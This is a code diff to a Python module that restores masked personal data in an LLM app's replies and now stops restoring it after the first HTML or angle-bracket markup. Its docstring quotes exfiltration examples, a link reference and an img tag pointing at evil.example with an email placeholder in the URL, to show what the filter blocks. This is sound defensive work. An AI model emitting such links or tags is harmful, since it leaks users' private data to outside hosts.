@@ -14,7 +14,12 @@ So, in a reply:
   (``MARA_LINK_HOSTS``, comma-separated, ``*.example.com`` for subdomains; default none);
   otherwise it becomes text: ``verify (link to evil.example removed)``;
 * in the remaining text a placeholder is restored unless its word looks like part of a URL
-  (it contains ``/ ? = & #`` or ``%40``), so ``evil.example/c?d=<EMAIL_1>`` stays masked too.
+  (it contains ``/ ? = & #`` or ``%40``), so ``evil.example/c?d=<EMAIL_1>`` stays masked too;
+* and no placeholder is restored after the first markup ``<`` of a reply (an HTML tag, an
+  autolink or an angle-bracket link target ``](<…>)``/``]: <…>``): there a URL may contain
+  spaces (``[r]: <//evil.example/c? <EMAIL_1>>``) or hide behind quotes (``<img alt="<"
+  src="//evil.example/? <EMAIL_1>">``), which no word-by-word rule can see. Replies rarely
+  need HTML; a comparison such as ``< 3`` is not markup.
 
 :class:`SafeText` does the same to streamed text, holding back an unfinished link or word.
 """
@@ -55,6 +60,12 @@ _OPEN_LINK = re.compile(r"!?\[[^\[\]\n]*(?:\](?:\([^()\n]*)?)?$")
 _OPEN_TAG = re.compile(r"<[A-Za-z/!][^<>]*$|<$")
 #: Streamed text held back waiting for a link to close is released past this many characters.
 MAX_HELD = 2000
+#: A ``<`` that opens markup — a tag, comment or autolink (``<a``, ``</``, ``<!``, ``<//``, ``<\\``),
+#: or an angle-bracket link target (``](<``, ``]: <``) — but not a placeholder, ``< 3``, ``<=`` or
+#: ``<-``.
+MARKUP_OPEN = re.compile(rf"<(?!{_PLACEHOLDER[1:]})(?![\s\d=<-])|\][(:]\s*<(?!{_PLACEHOLDER[1:]})")
+#: How much already-emitted text :class:`SafeText` keeps to recognise ``](`` + ``<`` across pieces.
+_TAIL = 200
 
 
 class Unmasker(Protocol):
@@ -111,17 +122,46 @@ def _restore_words(text: str, vault: Unmasker | None) -> str:
     return re.sub(r"\S+", word, text)
 
 
-def safe_unmask(text: str, vault: Unmasker | None, hosts: tuple[str, ...] = ()) -> str:
+def markup_start(text: str, before: str = "") -> int | None:
+    """Where the first markup ``<`` (:data:`MARKUP_OPEN`) of ``text`` is, ``before`` being the
+    text that precedes it (for a ``(`` or ``:`` just before); ``None`` when there is none."""
+    found = MARKUP_OPEN.search(before + text)
+    if found is None:
+        return None
+    return max(found.start() - len(before), 0)
+
+
+def safe_unmask(
+    text: str, vault: Unmasker | None, hosts: tuple[str, ...] = (), *, markup_before: bool = False,
+    before: str = "",
+) -> str:
     """``text`` as the user may see it (see the module docs); ``vault`` None only applies the
-    link rules (LLM mode without masking)."""
+    link rules (LLM mode without masking). ``markup_before``: the reply already had markup, so
+    nothing in ``text`` is restored; ``before``: the text just before ``text`` (when streamed)."""
+    cutoff = 0 if markup_before else markup_start(text, before)
+    if cutoff is None:
+        cutoff = len(text) + 1
+
+    def vault_at(position: int) -> Unmasker | None:
+        return vault if position < cutoff else None
+
     out: list[str] = []
     pos = 0
     for match in CONSTRUCT.finditer(text):
-        out.append(_restore_words(text[pos : match.start()], vault))
-        out.append(_construct(match, vault, hosts))
+        out.append(_restore_span(text, pos, match.start(), vault, cutoff))
+        out.append(_construct(match, vault_at(match.start()), hosts))
         pos = match.end()
-    out.append(_restore_words(text[pos:], vault))
+    out.append(_restore_span(text, pos, len(text), vault, cutoff))
     return "".join(out)
+
+
+def _restore_span(text: str, start: int, end: int, vault: Unmasker | None, cutoff: int) -> str:
+    """:func:`_restore_words` on ``text[start:end]``, restoring nothing from ``cutoff`` on."""
+    if cutoff >= end:
+        return _restore_words(text[start:end], vault)
+    if cutoff <= start:
+        return text[start:end]
+    return _restore_words(text[start:cutoff], vault) + text[cutoff:end]
 
 
 def _construct(match: re.Match[str], vault: Unmasker | None, hosts: tuple[str, ...]) -> str:
@@ -167,6 +207,9 @@ class SafeText:
         self.vault = vault
         self.hosts = hosts
         self.pending = ""
+        #: Whether text emitted so far (all steps of the turn) had markup: see :func:`safe_unmask`.
+        self.markup_seen = False
+        self._tail = ""
 
     def feed(self, delta: str) -> str:
         self.pending += delta
@@ -174,11 +217,19 @@ class SafeText:
         if cut == 0 and len(self.pending) > MAX_HELD:
             cut = len(self.pending)
         ready, self.pending = self.pending[:cut], self.pending[cut:]
-        return safe_unmask(ready, self.vault, self.hosts) if ready else ""
+        return self._render(ready)
 
     def flush(self) -> str:
         ready, self.pending = self.pending, ""
-        return safe_unmask(ready, self.vault, self.hosts) if ready else ""
+        return self._render(ready)
+
+    def _render(self, ready: str) -> str:
+        if not ready:
+            return ""
+        shown = safe_unmask(ready, self.vault, self.hosts, markup_before=self.markup_seen, before=self._tail)
+        self.markup_seen = self.markup_seen or markup_start(ready, self._tail) is not None
+        self._tail = (self._tail + ready)[-_TAIL:]
+        return shown
 
 
 def _safe_cut(text: str) -> int:
